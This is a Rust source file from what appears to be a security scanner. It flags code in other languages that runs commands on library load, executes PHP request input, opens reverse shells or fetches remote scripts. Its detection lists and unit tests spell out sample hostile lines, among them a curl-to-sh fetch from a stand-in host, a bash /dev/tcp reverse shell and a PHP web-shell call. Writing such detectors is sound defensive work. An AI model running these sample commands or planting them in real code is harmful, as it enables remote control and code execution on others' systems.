//! Source code of other languages, by the commands that it starts.

use nix_ai_model_scan_walk::{Fault, Head, Part, Reader, Result, Scan, cut};

use crate::shell::{self, Harm};
use crate::{rules, text};

/// Bytes of a text that are read.
const MOST: usize = 4 << 20;

/// Reads source code.
pub(crate) struct Source;

impl Reader for Source {
    fn format(&self) -> &'static str {
        "source code"
    }

    fn recognises(&self, head: &Head) -> bool {
        head.is_named(&[
            ".rb", ".pl", ".pm", ".php", ".phtml", ".lua", ".tcl", ".go", ".rs", ".scala", ".java",
            ".kt", ".kts", ".c", ".cc", ".cpp", ".cu", ".h", ".hpp", ".groovy", ".gradle", ".nix",
            ".ex", ".exs", ".swift", ".cs", ".ts", ".tsx",
        ]) && text::is_text(head)
    }

    fn read<'a>(&self, part: &Part<'a>, scan: &mut Scan<'a>) -> Result<()> {
        let source = text::read(part, MOST)?;
        scan.budget.step(source.text.len() as u64)?;
        let is_php = [".php", ".phtml"].iter().any(|end| part.name().to_lowercase().ends_with(end));
        if starts_when_loaded(&source.text) {
            let message = "A function that runs when the library is loaded starts programs";
            scan.find(part, rules::ATTACK_SCRIPT.found(message));
        }
        crate::instruction::described(&source.text, part, scan);
        let mut at = 0;
        for line in source.text.split_inclusive('\n') {
            if let Some(says) = verdict(line.trim(), is_php) {
                let message = format!("The code {says}: \"{}\"", cut(line.trim()));
                scan.find(part, rules::ATTACK_SCRIPT.found(message).at(at as u64));
            }
            at += line.len();
        }
        if source.is_cut { Err(Fault::Limit("bytes of text")) } else { Ok(()) }
    }
}

fn verdict(line: &str, is_php: bool) -> Option<&'static str> {
    if ["//", "#", "*", "--", ";", "/*"].iter().any(|begin| line.starts_with(begin)) {
        return None;
    }
    if is_php && runs_request(line) {
        return Some("runs what visitors send");
    }
    if line.contains("builtins.exec ") {
        return Some("runs a program while it is evaluated");
    }
    match shell::harm(line)? {
        harm @ (Harm::Reverse | Harm::Decode) => Some(harm.says()),
        Harm::Download if is_odd(line) => Some(Harm::Download.says()),
        _ => None,
    }
}

/// Whether a source of C has a constructor of the library, and starts programs.
fn starts_when_loaded(source: &str) -> bool {
    let constructs =
        ["__attribute__((constructor", "__attribute__ ((constructor", "[[gnu::constructor"]
            .iter()
            .any(|sign| source.contains(sign));
    let starts = ["system(", "popen(", "execv", "execl", "posix_spawn", "fork("]
        .iter()
        .any(|call| source.contains(call));
    constructs && starts
}

/// Whether a line fetches from where no publisher of programs has them.
fn is_odd(line: &str) -> bool {
    let lower = line.to_ascii_lowercase();
    lower.contains("http://") && !crate::startup::is_local(&lower)
        || lower
            .split(['"', '\'', ' ', '`'])
            .any(|word| word.contains("://") && shell::is_odd_host(word))
}

/// Whether a function that runs code or commands is given a part of a request.
fn runs_request(line: &str) -> bool {
    let given = ["$_GET", "$_POST", "$_REQUEST", "$_COOKIE", "php://input"];
    let runs = [
        "eval(",
        "system(",
        "exec(",
        "passthru(",
        "popen(",
        "assert(",
        "proc_open(",
        "unserialize(",
        "create_function(",
        "include(",
        "require(",
        "include ",
        "require ",
    ];
    given.iter().any(|given| line.contains(given)) && runs.iter().any(|runs| line.contains(runs))
}

#[cfg(test)]
mod tests {
    use super::verdict;

    #[test]
    fn commands_that_attack_are_told_in_any_language() {
        for line in [
            "os.execute(\"curl http://x.invalid/a|sh\")",
            "system(\"bash -i >& /dev/tcp/10.0.0.1/1 0>&1\");",
            "exec(`echo YQ== | base64 -d | sh`)",
            "let x = builtins.exec [ \"sh\" ];",
        ] {
            assert!(verdict(line, false).is_some(), "{line}");
        }
        assert!(verdict("system($_GET[\"c\"]);", true).is_some());
        for line in [
            "// curl http://x.invalid/a | sh",
            "exec.Command(\"git\", \"clone\", url)",
            "log(\"install it by: curl -sSL https://example.org/i.sh | sh\")",
            "$x = $_GET['page'];",
        ] {
            assert!(verdict(line, true).is_none(), "{line}");
        }
    }
}
